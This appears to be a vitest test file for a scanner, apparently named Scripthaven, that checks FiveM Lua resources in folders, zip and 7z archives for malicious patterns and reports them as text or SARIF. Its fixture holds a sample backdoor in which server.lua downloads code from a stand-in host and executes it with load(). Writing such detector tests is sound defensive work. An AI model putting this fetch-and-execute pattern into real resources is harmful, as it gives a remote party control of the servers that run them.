import { execFile } from 'node:child_process'
import { mkdir, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import { promisify } from 'node:util'

import { expect, test } from 'vitest'

import { sevenZipOf } from '#test-support/archives/seven-zip.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { temporaryFolder } from '#test-support/files.ts'

const members = [
  { name: 'garage/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'\nserver_script '*.lua'" },
  {
    name: 'garage/server.lua',
    content: "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)",
  },
]

async function folderOf(files: readonly { name: string; content: string }[]): Promise<string> {
  const folder = await temporaryFolder()
  for (const { name, content } of files) {
    await mkdir(dirname(join(folder, name)), { recursive: true })
    await writeFile(join(folder, name), content)
  }
  return folder
}

async function scan(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await promisify(execFile)(process.execPath, ['scan/main.ts', ...args])
    return { code: 0, stdout, stderr }
  } catch (error) {
    if (error instanceof Error && 'code' in error && 'stdout' in error && 'stderr' in error)
      return { code: Number(error.code), stdout: String(error.stdout), stderr: String(error.stderr) }
    throw error
  }
}

test('a folder, a .zip and a .7z have the same findings', async () => {
  const folder = await folderOf(members)
  const zip = join(await temporaryFolder(), 'garage.zip')
  const sevenZip = join(await temporaryFolder(), 'garage.7z')
  await writeFile(zip, zipOf(members))
  await writeFile(sevenZip, sevenZipOf(members))

  const reports = [await scan(folder), await scan(zip), await scan(sevenZip)]

  expect(reports[0]?.stdout).toMatch(
    /HIGH {2}Runs code that it downloads[^\n]*server\n {2}garage\/server\.lua:2/,
  )
  expect(reports.map(({ code, stdout }) => [code, stdout])).toEqual(
    Array.from({ length: 3 }, () => [0, reports[0]?.stdout]),
  )
})

test.each([
  [['--fail-on', 'high'], 1],
  [['--fail-on', 'low'], 1],
  [[], 0],
])('%j ends with code %i', async (options, code) => {
  expect((await scan(await folderOf(members), ...options)).code).toBe(code)
})

test('files without a finding pass', async () => {
  const folder = await folderOf([{ name: 'a/fxmanifest.lua', content: "fx_version 'cerulean'\ngame 'gta5'" }])

  expect(await scan(folder, '--fail-on', 'low')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('No known pattern was found.'),
  })
})

test('SARIF names rule, level, file and line of each finding', async () => {
  const { stdout } = await scan(await folderOf(members), '--sarif')

  expect(JSON.parse(stdout)).toMatchObject({
    version: '2.1.0',
    runs: [
      {
        tool: { driver: { name: 'Scripthaven', rules: [{ id: 'runs-downloaded-code' }] } },
        results: [
          {
            ruleId: 'runs-downloaded-code',
            ruleIndex: 0,
            level: 'error',
            locations: [
              {
                physicalLocation: {
                  artifactLocation: { uri: 'garage/server.lua' },
                  region: { startLine: 2 },
                },
              },
            ],
          },
        ],
      },
    ],
  })
})

test.each([
  [[], 'Name one path'],
  [['a', 'b'], 'Name one path'],
  [['/does/not/exist'], 'does not exist'],
  [['package.json'], 'neither a folder nor an archive'],
  [['scan', '--json', '--sarif'], 'not both'],
  [['scan', '--fail-on', 'worst'], 'takes high, medium or low'],
  [['scan', '--unknown'], 'Unknown option'],
])('%j is bad usage: %s', async (args, message) => {
  expect(await scan(...args)).toMatchObject({ code: 2, stderr: expect.stringContaining(message) })
})

test('a damaged archive is no report', async () => {
  const zip = join(await temporaryFolder(), 'a.zip')
  await writeFile(zip, zipOf(members).subarray(0, 100))

  expect((await scan(zip)).code).toBe(2)
})
